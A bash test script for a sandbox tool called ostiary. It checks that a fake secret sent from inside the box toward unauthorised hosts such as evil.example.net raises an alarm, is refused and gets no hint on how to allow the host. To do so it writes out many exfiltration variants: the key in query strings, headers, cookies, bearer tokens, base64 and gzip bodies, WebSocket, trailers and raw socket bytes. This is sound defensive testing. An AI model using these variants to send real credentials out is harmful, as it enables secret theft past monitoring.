#!/bin/bash
# suite: test=user soak=root,user timeout=300
# tier: what is looked through does not depend on who runs the door, so test runs it once
# custody_unknown.sh - the tripwire comes before policy: a placeholder on its way to a host that no rule names, that is
# refused or that is asked about, in the head, in the body, in bytes that are no request, raises the alarm and does what
# leak= says. Nobody is asked, and nobody is told how to open that host. Equal alarms are told once and counted.
set -u
cd "$(dirname "$0")/.." || exit 1
. tests/lib.sh
. tests/lib_door.sh
door_needs custody_unknown curl openssl /usr/bin/python3
door_trial 'DNS:*.home.test,DNS:*.other.test'
cp tests/custody/forms_client.py "$work/ws/"
export KEY=fake-Unknown-Value-Of-40-Characters-00001
home="* *.home.test:443 to=127.0.0.1:$h1 ca=$work/ca.pem"
secret="KEY from env at *.home.test as bearer"
door_box t1 --allow "$home" --allow "ask * asked.other.test:443 to=127.0.0.1:$h1 ca=$work/ca.pem" --deny "* denied.other.test" \
	--secret "$secret" >"$work/start" 2>&1
check "the box starts" $? "$(cat "$work/start")"
[ $bad = 0 ] || exit 1
lacks() { # name, text, no part of it
	case $2 in *"$3"*) false ;; *) true ;; esac
	check "$1" $? "\"$3\" is in: $2"
}
key=$(in_box t1 printenv KEY)
"$ostiary" exec t1 -- sleep 1000 </dev/null >/dev/null 2>"$work/attached" &
door_pids+=($!)
alarms() { "$ostiary" log t1 --json 2>/dev/null | grep -c '"kind":"alarm"'; }
curl_box() { in_box t1 curl -s -m 60 -w ' %{http_code}' "$@"; }
client() { in_box t1 /usr/bin/python3 forms_client.py "$@"; }
# alarmed NAME COMMAND...: an alarm, and not a word on how to open the way.
alarmed() {
	local name=$1 got before
	shift
	before=$(alarms)
	got=$("$@" 2>&1)
	rings() { [ "$(alarms)" -gt "$before" ]; }
	within 20 rings
	check "$name: alarm" $? "$got"
	case $got in *"To allow it"* | *"ostiary allow"*) false ;; *) true ;; esac
	check "$name: no hint" $? "$got"
}
for host in evil.example.net denied.other.test asked.other.test; do
	alarmed "$host: the query" curl_box "https://$host/?k=$key"
	alarmed "$host: the path" curl_box "https://$host/x/$key"
	alarmed "$host: a header" curl_box -H "X-Note: $key" "https://$host/"
	alarmed "$host: bearer" curl_box -H "Authorization: Bearer $key" "https://$host/"
	alarmed "$host: a cookie" curl_box -b "a=$key" "https://$host/"
	alarmed "$host: a body" curl_box --data-binary "some $key text" "https://$host/"
	alarmed "$host: a body in base64" curl_box --data-binary "$(printf '%s' "$key" | base64 -w0)" "https://$host/"
	alarmed "$host: a body that waits for 100" curl_box -H "Expect: 100-continue" --data-binary "some $key" "https://$host/"
	alarmed "$host: a compressed body" client post "$host" / text/plain gzip 0 "before " @KEY " after"
	alarmed "$host: a body in pieces" client post "$host" / text/plain "" 5 "before " @KEY " after"
	alarmed "$host: a long body" client large "$host" / text/plain "" 8000 400000 "@@ " @KEY ""
	alarmed "$host: a trailer" client trailer "$host" @KEY
	alarmed "$host: a WebSocket" client get "$host" / "upgrade: websocket" "connection: Upgrade" "sec-websocket-version: 13" \
		"sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==" "x-note: $key"
	alarmed "$host: plain HTTP" curl_box "http://$host/?k=$key"
	alarmed "$host: plain HTTP, a body" curl_box --data-binary "$key" "http://$host/"
done
alarmed "the name in Host is another" curl_box -H "Host: a.example.net" "https://b.example.net/?k=$key"
alarmed "a method that is none" curl_box -X "$key" https://m.example.net/
raw() {
	# shellcheck disable=SC2016
	in_box t1 /usr/bin/python3 -c 'import os,socket,sys
s = socket.create_connection((sys.argv[1], 80), 30)
s.sendall(sys.argv[2].replace("@", os.environ["KEY"]).encode())
s.shutdown(socket.SHUT_WR)
print(s.recv(4096).decode("latin-1"))' "$@"
}
alarmed "bytes that are no HTTP" raw r1.example.net $'\x01\x02@\r\n\r\n'
alarmed "half a head, then the end" raw r2.example.net $'GET /?k=@'
alarmed "a head that is malformed" raw r3.example.net $'GET / HTTP/1.1\r\nhost: r3.example.net\r\nx note: @\r\n\r\n'
alarmed "a head that is too large" raw r4.example.net "$(printf 'GET / HTTP/1.1\r\nhost: r4.example.net\r\nx-a: @\r\nx-b: %0100000d\r\n\r\n' 1)"
# The same for what honest programs send: nothing.
before=$(alarms)
got=$(curl_box https://evil2.example.net/)
holds "control: a refusal without any has its hint" "$got" "ostiary allow t1"
got=$(curl_box --data-binary "nothing" https://evil2.example.net/)
holds "control: with a body too" "$got" "ostiary allow t1"
got=$(curl_box -H "Authorization: Bearer $key" https://a.home.test/)
holds "control: in its slot" "$got" " 200"
same "control: no alarm" "$(alarms)" "$before"
# A stream that does not end is not held up for ever.
got=$(client large evil2.example.net / text/plain "" 3000 3000000 "@@ " nothing "")
holds "control: a very long body that is refused" "$got" "403"
got=$(curl_box https://evil.example.net/)
holds "the host of an alarm stays refused" "$got" " 403"
lacks "and nobody is told how to open it" "$got" "ostiary allow"
lacks "nobody was asked" "$(cat "$work/attached")" "the box asks: "
lacks "no question waits" "$("$ostiary" approvals t1 --json 2>/dev/null)" '"id"'
same "an equal alarm is told once" "$(grep -c 'the query of a request to evil.example.net' "$work/attached")" 1
for _ in 1 2 3 4; do curl_box "https://evil.example.net/?k=$key" >/dev/null; done
same "however often it comes" "$(grep -c 'the query of a request to evil.example.net' "$work/attached")" 1
[ -z "$(find "$work/seen" -name "*other*")" ]
check "nothing reached an origin" $? "$(ls "$work/seen")"

# What it does, and the closing lines.
# shellcheck disable=SC2016
got=$(cd "$work/ws" && "$ostiary" run --level strict --allow "$home" --secret "$secret leak=kill" -- sh -c \
	'curl -s -m 20 https://evil.example.net/ >/dev/null; curl -s -m 20 "https://evil.example.net/?k=$KEY" >/dev/null; sleep 100; echo alive' 2>&1 </dev/null)
holds "leak=kill toward a host that no rule names" "$got" "leak=kill"
lacks "ends the box" "$got" alive
lacks "and its closing lines open nothing" "$got" "to allow it"
# shellcheck disable=SC2016
got=$(cd "$work/ws" && "$ostiary" run --level strict --allow "$home" --secret "$secret" -- sh -c \
	'for n in 1 2 3; do curl -s -m 20 --data-binary "$KEY" https://evil.example.net/ >/dev/null; done; curl -s -m 20 https://evil.example.net/ >/dev/null' 2>&1 </dev/null)
holds "closing lines count equal alarms" "$got" "(3 times)"
lacks "and open nothing" "$got" "to allow it"
exit $bad
